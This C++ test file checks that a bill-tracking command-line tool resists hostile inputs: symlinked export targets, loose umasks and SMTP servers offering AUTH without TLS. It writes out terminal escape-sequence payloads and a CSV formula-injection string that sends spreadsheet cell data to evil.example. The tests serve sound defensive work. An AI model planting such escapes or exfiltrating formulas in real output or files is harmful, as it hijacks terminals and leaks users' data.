// Security round two, written as the attacks: a page full of escape sequences, a title
// that is a spreadsheet formula, a page with thousands of links, a link to another site,
// a mail server that offers AUTH without STARTTLS, a symlinked export target, a careless
// umask. Each drives the real command line (or the real binary) against loopback servers.
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <nlohmann/json.hpp>
#include <sstream>

#include "billwatch/app/cli.hpp"
#include "billwatch/crawler/curl_global.hpp"
#include "child_process.hpp"
#include "cli_runner.hpp"
#include "files.hpp"
#include "loopback_http_server.hpp"
#include "smtp_server_process.hpp"

namespace billwatch::app {
namespace {

using test::TempDir;

using test::cli;
using test::CliResult;

const std::string k_allow = "[crawler]\nallow_private = [\"127.0.0.1\"]\n";

class HostileInputTest : public ::testing::Test {
 protected:
  void write_config(const std::string& extra) {
    test::write_file(m_config, "[database]\npath = \"" + m_dir.file("bw.db") + "\"\n" + extra);
  }
  std::string html_source(const std::string& name, const std::string& path,
                          const std::string& more = "") {
    return "[[source]]\ntype = \"html\"\nname = \"" + name +
           "\"\njurisdiction = \"WA\"\nbill_id = \"WA-2025-HB-" + name + "\"\nurls = [\"" +
           m_http.url(path) + "\"]\n" + more;
  }

  crawler::CurlGlobal m_curl;
  TempDir m_dir;
  std::string m_config = m_dir.file("bw.toml");
  test::LoopbackHttpServer m_http;
  test::ScopedEnv m_no_env{"BILLWATCH_CONFIG", nullptr};
};

bool has_control(const std::string& s) {
  for (char c : s) {
    auto u = static_cast<unsigned char>(c);
    if ((u < 0x20 && c != '\n' && c != '\t') || u == 0x7f) return true;
  }
  return s.find("\xC2\x9B") != std::string::npos;  // C1 CSI
}

TEST_F(HostileInputTest, EscapeSequencesInAPageNeverReachTheTerminal) {
  const std::string title =
      "Restraint \x1b]0;pwned\x07\x1b[2J\x1b[8mhidden\x1b]8;;https://evil.example\x1b\\link "
      "\xC2\x9B"
      "31m";
  m_http.server().Get("/evil.txt", [&](const httplib::Request&, httplib::Response& res) {
    res.set_content(title + "\n\nNo student may be placed in seclusion.\x7f\r\n",
                    "text/plain; charset=utf-8");
  });
  write_config(k_allow + html_source("1", "/evil.txt"));
  auto run = cli({"--config", m_config, "run"});
  ASSERT_EQ(run.code, 0) << run.err;
  EXPECT_FALSE(has_control(run.out + run.err)) << run.err;
  EXPECT_NE(run.err.find("\\x1b]0;pwned\\x07"), std::string::npos) << "shown, not obeyed";
  ASSERT_EQ(cli({"--config", m_config, "subscribe", "--confirmed", "p@example.org", "--name",
                 "Pat \x1b[2J\x1b]0;x\x07"})
                .code,
            0);
  for (std::vector<std::string> command : {std::vector<std::string>{"bills"},
                                           {"show", "WA-2025-HB-1", "--text"},
                                           {"history", "WA-2025-HB-1"},
                                           {"search", "seclusion"},
                                           {"subscriptions"},
                                           {"outbox"},
                                           {"diff", "WA-2025-HB-1", "--from", "1", "--to", "1"}}) {
    command.insert(command.begin(), {"--config", m_config});
    auto result = cli(command);
    EXPECT_EQ(result.code, 0) << command[2] << ": " << result.err;
    EXPECT_FALSE(has_control(result.out + result.err)) << command[2] << ": " << result.out;
  }
  // JSON keeps the data and escapes the controls itself.
  auto json = cli({"--config", m_config, "bills", "--json"});
  EXPECT_EQ(nlohmann::json::parse(json.out)[0]["title"], title);
  EXPECT_FALSE(has_control(json.out)) << "C1 and bidi controls as JSON \\u escapes";
}

TEST_F(HostileInputTest, AFormulaTitleOpensAsTextInASpreadsheet) {
  m_http.server().Get("/formula.txt", [](const httplib::Request&, httplib::Response& res) {
    res.set_content(
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n\nSeclusion of students "
        "is prohibited in schools.",
        "text/plain");
  });
  write_config(k_allow + html_source("2", "/formula.txt"));
  ASSERT_EQ(cli({"--config", m_config, "run", "--quiet"}).code, 0);
  auto csv = cli({"--config", m_config, "bills", "--csv"});
  EXPECT_NE(csv.out.find(",\"'=HYPERLINK("), std::string::npos) << csv.out;
  EXPECT_EQ(csv.out.find(",=HYPERLINK"), std::string::npos);
  ASSERT_EQ(cli({"--config", m_config, "export", "--out", m_dir.file("out")}).code, 0);
  std::string bills = test::read_file(m_dir.file("out/bills.csv"));
  EXPECT_NE(bills.find(",\"'=HYPERLINK("), std::string::npos) << bills;
  std::string codebook = test::read_file(m_dir.file("out/codebook.md"));
  EXPECT_NE(codebook.find("formula"), std::string::npos) << "the codebook says why";
}

TEST_F(HostileInputTest, APageWithThousandsOfLinksOrLinksElsewhereCostsLittle) {
  std::string page = "<html><head><title>HB 9</title></head><body><h1>HB 9 seclusion</h1><ul>";
  for (int i = 0; i < 300; ++i) {
    page += "<li><a class=\"v\" href=\"/v/" + std::to_string(i) + "\">Version " +
            std::to_string(i) + "</a></li>";
  }
  page += "<li><a class=\"v\" href=\"http://localhost:" + std::to_string(m_http.port()) +
          "/internal\">Elsewhere</a></li></ul></body></html>";
  std::mutex mutex;
  int version_requests = 0;
  m_http.server().Get("/bill", [&](const httplib::Request&, httplib::Response& res) {
    res.set_content(page, "text/html");
  });
  m_http.server().Get(R"(/v/(\d+))", [&](const httplib::Request&, httplib::Response& res) {
    std::lock_guard<std::mutex> lock(mutex);
    ++version_requests;
    res.set_content("Sec. 1. Seclusion is prohibited.", "text/plain");
  });
  write_config(
      "[crawler]\nallow_private = [\"127.0.0.1\"]\nmin_delay_ms = 0\n"
      "per_host_concurrency = 8\nmax_links_per_page = 20\n" +
      html_source("9", "/bill", "[source.selectors]\ntitle = \"h1\"\nversions = \"a.v\"\n"));
  auto run = cli({"--config", m_config, "run", "--json"});
  auto summary = nlohmann::json::parse(run.out);
  EXPECT_EQ(version_requests, 20) << run.err;
  std::string warnings = summary["warnings"].dump();
  EXPECT_NE(warnings.find("300 version links; following the first 20"), std::string::npos)
      << warnings;
  EXPECT_NE(warnings.find("a version link to another site (localhost) is not followed"),
            std::string::npos)
      << warnings;
  EXPECT_EQ(m_http.hits("/internal"), 0);
}

TEST_F(HostileInputTest, ASmtpPasswordIsNeverSentWithoutTls) {
  if (!test::SmtpServerProcess::available()) GTEST_SKIP() << "python3-aiosmtpd is not installed";
  test::SmtpServerOptions options;
  options.offer_auth = true;  // offers AUTH in clear text, as a stripped STARTTLS would look
  test::SmtpServerProcess smtp(options);
  test::ScopedEnv password{"BW_TEST_SMTP_PASSWORD", "hunter2"};
  std::string smtp_table = "[smtp]\nurl = \"" + smtp.url() +
                           "\"\nfrom = \"alerts@example.org\"\nusername = \"alerts\"\n"
                           "password_env = \"BW_TEST_SMTP_PASSWORD\"\n";
  write_config(smtp_table);
  ASSERT_EQ(cli({"--config", m_config, "subscribe", "--confirmed", "p@example.org"}).code, 0);
  {
    // An event to mail, as a run records it.
    m_http.server().Get("/a.txt", [](const httplib::Request&, httplib::Response& res) {
      res.set_content("Seclusion of students is prohibited.", "text/plain");
    });
    write_config(k_allow + smtp_table + html_source("3", "/a.txt"));
    auto run = cli({"--config", m_config, "run", "--json"});
    EXPECT_EQ(run.code, 1) << "the alert did not go out: " << run.out;
    auto summary = nlohmann::json::parse(run.out);
    EXPECT_EQ(summary["emails_sent"], 0);
    EXPECT_NE(summary["warnings"].dump().find("mail to p@example.org"), std::string::npos)
        << summary.dump();
  }
  EXPECT_EQ(smtp.auth_log(), "") << "the password went out in clear text";
  EXPECT_TRUE(smtp.messages().empty());

  // Written explicitly, "never" sends it, and says so loudly (the failed alert is retried
  // at once with `outbox --retry`, past its backoff).
  write_config(smtp_table + "starttls = \"never\"\n");
  auto notify = cli({"--config", m_config, "outbox", "--retry"});
  EXPECT_EQ(notify.code, 0) << notify.out << notify.err
                            << cli({"--config", m_config, "outbox"}).out;
  EXPECT_NE(notify.err.find("the SMTP password travel in clear text"), std::string::npos)
      << notify.err;
  EXPECT_NE(smtp.auth_log().find("alerts hunter2"), std::string::npos);
  EXPECT_EQ(smtp.messages().size(), 1u);
}

TEST_F(HostileInputTest, ExportAndBackupNeverWriteThroughSymlinks) {
  write_config("");
  ASSERT_EQ(cli({"--config", m_config, "subscribe", "--confirmed", "p@example.org"}).code, 0);
  std::filesystem::create_directory(m_dir.file("precious"));
  test::write_file(m_dir.file("precious/keep.txt"), "keep");
  std::filesystem::create_directory_symlink(m_dir.file("precious"), m_dir.file("link"));
  auto exported = cli({"--config", m_config, "export", "--out", m_dir.file("link"), "--force"});
  EXPECT_EQ(exported.code, 1);
  EXPECT_NE(exported.err.find("exists and is not a directory"), std::string::npos) << exported.err;
  EXPECT_EQ(test::read_file(m_dir.file("precious/keep.txt")), "keep");
  EXPECT_EQ(std::filesystem::directory_iterator(m_dir.file("precious"))->path().filename(),
            "keep.txt");

  std::filesystem::create_symlink(m_dir.file("elsewhere.db"), m_dir.file("dangling.db"));
  auto backup = cli({"--config", m_config, "backup", m_dir.file("dangling.db")});
  EXPECT_EQ(backup.code, 1);
  EXPECT_FALSE(std::filesystem::exists(m_dir.file("elsewhere.db")));

  std::filesystem::create_symlink(m_dir.file("elsewhere.secret"), m_dir.file("billwatch.secret"));
  auto subscribe = cli({"--config", m_config, "unsubscribe", "--token", "1-abc"});
  EXPECT_NE(subscribe.err.find("symbolic link"), std::string::npos) << subscribe.err;
  EXPECT_FALSE(std::filesystem::exists(m_dir.file("elsewhere.secret")));
}

// The real binary under a careless umask (cron's 022): what it creates is its owner's.
TEST_F(HostileInputTest, FilesAreCreatedForTheOwnerOnlyWhateverTheUmask) {
  write_config("");
  mode_t old = ::umask(022);
  auto run = [&](std::vector<std::string> args) {
    args.insert(args.begin(), {BILLWATCH_BINARY, "--config", m_config});
    test::ChildProcess child(args);
    return child.wait();
  };
  EXPECT_EQ(run({"subscribe", "--confirmed", "p@example.org"}), 0);
  EXPECT_EQ(run({"export", "--out", m_dir.file("out")}), 0);
  EXPECT_EQ(run({"backup", m_dir.file("copy.db")}), 0);
  ::umask(old);
  auto mode = [](const std::string& path) {
    struct stat info {};
    EXPECT_EQ(::stat(path.c_str(), &info), 0) << path;
    return info.st_mode & 0777;
  };
  EXPECT_EQ(mode(m_dir.file("bw.db")), 0600u);
  EXPECT_EQ(mode(m_dir.file("out")), 0700u);
  EXPECT_EQ(mode(m_dir.file("out/bills.csv")), 0600u);
  EXPECT_EQ(mode(m_dir.file("copy.db")), 0600u);
}

TEST_F(HostileInputTest, AddressesAndLimitsAreChecked) {
  write_config("");
  auto unicode = cli({"--config", m_config, "subscribe", "--confirmed", "pär@example.org"});
  EXPECT_EQ(unicode.code, 2);
  auto invalid = cli({"--config", m_config, "subscribe", "--confirmed", "a\xff@example.org"});
  EXPECT_EQ(invalid.code, 2);
  EXPECT_EQ(invalid.err.find('\xff'), std::string::npos) << "not echoed raw";
  EXPECT_EQ(cli({"--config", m_config, "search", "x", "--limit", "-1"}).code, 2);
  EXPECT_EQ(cli({"--config", m_config, "search", "x", "--limit", "0"}).code, 2);
}

}  // namespace
}  // namespace billwatch::app
